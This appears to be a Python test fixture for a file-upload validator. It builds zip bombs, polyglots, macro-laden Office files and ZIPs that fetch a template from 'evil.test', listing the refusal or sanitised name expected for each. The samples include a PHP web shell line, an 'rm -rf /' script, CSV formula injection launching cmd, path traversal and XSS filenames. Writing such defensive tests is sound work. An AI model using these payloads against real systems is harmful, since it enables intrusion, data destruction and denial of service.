"""Files that mean harm, or would do some, made here: nothing of the kind is kept in the repository.

Each is (name, content, what the refusal says); `None` where it is taken, and comes out harmless.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
SHEET = TYPES.replace(b"wordprocessingml.document", b"spreadsheetml.sheet")
MACROS = TYPES.replace(
    b"openxmlformats-officedocument.wordprocessingml.document.main",
    b"ms-word.document.macroEnabled.main",
)
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def zipped(*parts, types=TYPES, how=zipfile.ZIP_DEFLATED):
    """A ZIP of (name, content) parts, with the types of a Word document in front."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", how) as archive:
        for name, content in ((("[Content_Types].xml", types),) if types else ()) + parts:
            archive.writestr(name, content)
    return written.getvalue()


WORDS = ("word/document.xml", b"<w:document/>")
DOCX = zipped(WORDS)


def picture(form="JPEG", size=(64, 48), **said):
    written = io.BytesIO()
    Image.new("RGB", size, "teal").save(written, form, **said)
    return written.getvalue()


JPEG, PNG = picture(), picture("PNG")


def located(form="JPEG"):
    """A photo that says where it was taken, with which phone, and for whom."""
    exif = Image.Exif()
    exif[0x010F], exif[0x8298] = "Canarycam", "Canary Tamang"
    exif.get_ifd(0x8825).update({1: "N", 2: (27.0, 42.0, 0.0), 3: "E", 4: (85.0, 19.0, 0.0)})
    return picture(form, exif=exif, **({"comment": b"Canary note"} if form == "JPEG" else {}))


def with_xmp(jpeg):
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>Canary place</x:xmpmeta>"
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp + jpeg[2:]


def huge_png(width=100_000, height=100_000):
    """A few bytes that say that they are ten thousand million points."""

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def overlapping():
    """Forty names for one part: each byte is unpacked forty times."""
    content = bytearray(zipped(WORDS, ("word/big.bin", b"a" * 900_000)))
    end = content.rfind(b"PK\x05\x06")
    begin = struct.unpack("<I", content[end + 16 : end + 20])[0]
    last = content.rfind(b"PK\x01\x02", begin, end)
    copies = b""
    for number in range(40):
        copies += bytes(content[last:end]).replace(b"big.bin", b"b%02d.bin" % number)
    directory = bytes(content[begin:end]) + copies
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 43, 43, len(directory), begin, 0)
    return bytes(content[:begin]) + directory + tail


def lying():
    """A ZIP whose part says that it is small, and is not."""
    content = bytearray(zipped(WORDS, ("word/big.bin", b"a" * 5_000_000)))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        where = content.rfind(mark) + at
        content[where : where + 4] = struct.pack("<I", 10)
    return bytes(content)


def encrypted():
    content = bytearray(DOCX)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.rfind(mark) + at] |= 1
    return bytes(content)


FETCHES = (
    "word/_rels/settings.xml.rels",
    b'<Relationship Type="http://schemas/attachedTemplate" Target="http://evil.test/a.dotm" '
    b'TargetMode="External"/>',
)
INNER = zipped(("a.txt", b"a" * 1000), types=None)
MOV = b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + b"\0" * 40 + b"hdlr\0\0\0\0\0\0\0\0vide" + b"\0" * 40
MP3 = (b"\xff\xfb\x90\x00" + b"\0" * 413) * 3
NOT_TAKEN, BROKEN, TWO = "not taken", "broken", "two things"
BOMB, ACTIVE, INSIDE = "unpacks to more", "macros or programs", "another archive"

REFUSED = {
    "html as jpg": ("photo.jpg", HTML, NOT_TAKEN),
    "html as txt": ("notes.txt", HTML, "page or a program"),
    "html behind blanks": ("notes.txt", b"\xef\xbb\xbf \n\n" + HTML, "page or a program"),
    "html as html": ("page.html", HTML, NOT_TAKEN),
    "html in utf-16": ("notes.txt", HTML.decode().encode("utf-16"), "page or a program"),
    "svg": ("logo.svg", SVG, NOT_TAKEN),
    "svg as png": ("logo.png", SVG, NOT_TAKEN),
    "svg as txt": ("logo.txt", SVG, "page or a program"),
    "xml stylesheet": ("a.txt", b'<?xml version="1.0"?><?xml-stylesheet?>', "page or a program"),
    "php": ("a.txt", b"<?php system($_GET[0]);", "page or a program"),
    "javascript": ("a.js", b"alert(1)", NOT_TAKEN),
    "shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "page or a program"),
    "batch file": ("a.bat", b"del /q *.*", NOT_TAKEN),
    "exe": ("setup.exe", b"MZ" + b"\x90\0" * 200, NOT_TAKEN),
    "exe as pdf": ("contract.pdf", b"MZ" + b"\x90\0" * 200, NOT_TAKEN),
    "elf": ("run", b"\x7fELF\x02\x01\x01" + b"\0" * 200, NOT_TAKEN),
    "java class": ("A.class", b"\xca\xfe\xba\xbe" + b"\0" * 100, NOT_TAKEN),
    "shortcut": ("contract.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100, NOT_TAKEN),
    "internet shortcut": ("a.url", b"[InternetShortcut]\nURL=file://evil/a", NOT_TAKEN),
    "calendar": ("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", NOT_TAKEN),
    "calendar as txt": ("a.txt", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "page or a program"),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, NOT_TAKEN),
    "rich text": ("a.rtf", b"{\\rtf1\\objdata 0105}", NOT_TAKEN),
    "rar": ("a.rar", b"Rar!\x1a\x07\x01\0", NOT_TAKEN),
    "gzip": ("a.csv", b"\x1f\x8b\x08\0" + b"\0" * 20, NOT_TAKEN),
    "plain zip": ("a.zip", INNER, "Archives are not taken"),
    "zip as docx": ("a.docx", INNER, "Archives are not taken"),
    "jar": ("a.jar", zipped(("A.class", b"\xca\xfe\xba\xbe"), types=None), ACTIVE),
    "macro docm": ("a.docm", zipped(WORDS, types=MACROS), ACTIVE),
    "macro docm as docx": ("a.docx", zipped(WORDS, ("word/vbaProject.bin", b"x")), ACTIVE),
    "macro sheet": ("a.xlsx", zipped(("xl/macrosheets/sheet1.xml", b"x"), types=SHEET), ACTIVE),
    "ole object": ("a.docx", zipped(WORDS, ("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0")), ACTIVE),
    "exe in docx": ("a.docx", zipped(WORDS, ("word/media/a.png", b"MZ\x90")), ACTIVE),
    "basic in odt": (
        "a.odt",
        zipped(("mimetype", b"x"), ("Basic/a.xml", b"x"), types=None),
        ACTIVE,
    ),
    "fetched template": ("a.docx", zipped(WORDS, FETCHES), "fetches parts"),
    "zip bomb docx": ("a.docx", zipped(WORDS, ("word/b.xml", b"\0" * (30 * 2**20))), BOMB),
    "ratio bomb docx": ("a.docx", zipped(WORDS, ("word/b.xml", b"\0" * (20 * 2**20))), BOMB),
    "lying zip": ("a.docx", lying(), BROKEN),
    "overlapping zip": ("a.docx", overlapping(), BOMB),
    "nested zip": ("a.docx", zipped(WORDS, ("word/a.zip", INNER)), INSIDE),
    "deeply nested": ("a.docx", zipped(WORDS, ("a.docx", zipped(("b.zip", INNER)))), INSIDE),
    "gzip in docx": ("a.docx", zipped(WORDS, ("word/a", b"\x1f\x8b\x08")), INSIDE),
    "10,000 entries": ("a.docx", zipped(*((f"word/{n}.xml", b"") for n in range(10_000))), BOMB),
    "slipped path": ("a.docx", zipped(WORDS, ("../../etc/cron.d/a", b"x")), "false names"),
    "password": ("a.docx", encrypted(), "password"),
    "broken zip": ("a.docx", DOCX[:-30], BROKEN),
    "html before zip": ("a.docx", b"PK\x03\x04" + HTML + DOCX, "glued"),
    "html after zip": ("a.docx", DOCX + HTML, "glued"),
    "truncated jpg": ("a.jpg", picture(size=(800, 600))[:900], "cannot be read"),
    "jpg of its first bytes": ("a.jpg", b"\xff\xd8\xff\xe0", "cannot be read"),
    "png bomb": ("a.png", huge_png(), "50 million points"),
    "png broken": ("a.png", PNG[:40], "cannot be read"),
    "webp broken": ("a.webp", b"RIFF\x10\0\0\0WEBPVP8 ", "cannot be read"),
    "heic broken": ("a.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "cannot be read"),
    "tiff": ("a.tif", b"II*\0" + b"\0" * 40, NOT_TAKEN),
    "gif": ("a.gif", b"GIF89a\x01\0\x01\0", NOT_TAKEN),
    "gifar": ("a.gif", b"GIF89a/*" + INNER, NOT_TAKEN),
    "film": ("a.mp4", MOV, NOT_TAKEN),
    "pdf and html": ("a.pdf", b"%PDF-1.7\n" + HTML + PDF, TWO),
    "pdf and zip": ("a.pdf", PDF + INNER, TWO),
    "pdf and jar with a comment": ("a.pdf", PDF + INNER + b"\n\n\0", TWO),
    "pdf behind html": ("a.pdf", HTML + PDF, NOT_TAKEN),
    "sound and zip": ("a.mp3", MP3 + INNER, TWO),
    "id3 and html": ("a.mp3", b"ID3\x03\0\0\0\0\x00\x40" + HTML.ljust(64, b" ") + MP3, TWO),
    "null bytes": ("a.txt", b"words\0words", NOT_TAKEN),
    "not utf-8": ("a.txt", b"caf\xe9", NOT_TAKEN),
    "live formula": ("a.csv", b"name,sum\n=cmd|' /C calc'!A0,1\n", "formulas"),
    "hidden formula": ("a.csv", b'name\n"@SUM(1+1)*cmd|calc!A0"\n', "formulas"),
    "formula with a sign": ("a.csv", b"name;sum\nMaya;+cmd|' /C calc'!A0\n", "formulas"),
    "empty": ("a.pdf", b"", "empty"),
    "too large": ("a.pdf", PDF + b" " * (20 * 2**20), "larger than 20 MB"),
    "nothing known": ("a", b"\x01\x02\x03\x04", NOT_TAKEN),
}

# Taken, as what they are: the name that is given out, and its type.
TAMED = {
    "pdf with javascript": (
        "a.pdf",
        PDF.replace(b"<<>>endobj", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        ("a.pdf", "application/pdf"),
    ),
    "pdf as exe": ("a.exe", PDF, ("a.pdf", "application/pdf")),
    "png as jpg": ("a.jpg", PNG, ("a.png", "image/png")),
    "jpg and html": ("a.jpg", JPEG + HTML, ("a.jpg", "image/jpeg")),
    "jpg and zip": ("a.jpg", JPEG + INNER, ("a.jpg", "image/jpeg")),
    "png and html": ("a.png", PNG + HTML, ("a.png", "image/png")),
    "two endings": ("a.jpg.exe", JPEG, ("a.jpg.jpg", "image/jpeg")),
    "path": ("../../../etc/passwd", PDF, ("passwd.pdf", "application/pdf")),
    "windows path": ("C:\\Windows\\system.ini", PDF, ("system.pdf", "application/pdf")),
    "device": ("con.pdf", PDF, ("file con.pdf", "application/pdf")),
    "override": ("photo\u202egpj.exe", JPEG, ("photogpj.jpg", "image/jpeg")),
    "header": ('a"; x=\r\nSet-Cookie: y.pdf', PDF, None),
    "markup": ("<img src=x onerror=alert(1)>.pdf", PDF, None),
    "long": ("n" * 900 + ".pdf", PDF, ("n" * 100 + ".pdf", "application/pdf")),
    "arabic": ("عقد العمل.pdf", PDF, ("عقد العمل.pdf", "application/pdf")),
    "nothing but dots": ("....pdf", PDF, ("file.pdf", "application/pdf")),
    "telephone numbers": (
        "a.csv",
        b"name,phone\nMaya,+9779841000001\n,-5\n",
        ("a.csv", "text/csv; charset=utf-8"),
    ),
}
GOOD = {
    "docx": DOCX,
    "xlsx": zipped(("xl/workbook.xml", b"<workbook/>"), types=SHEET),
    "odt": zipped(
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office/>"),
        types=None,
        how=zipfile.ZIP_STORED,
    ),
    "txt": "عقد".encode(),
    "mp3": MP3,
    "m4a": b"\0\0\0\x1cftypM4A \0\0\0\0M4A mp42isom" + b"\0" * 60,
    "ogg": b"OggS\0\x02" + b"\0" * 20 + b"\x01\x13OpusHead\x01" + b"\0" * 40,
    "webp": picture("WEBP"),
}
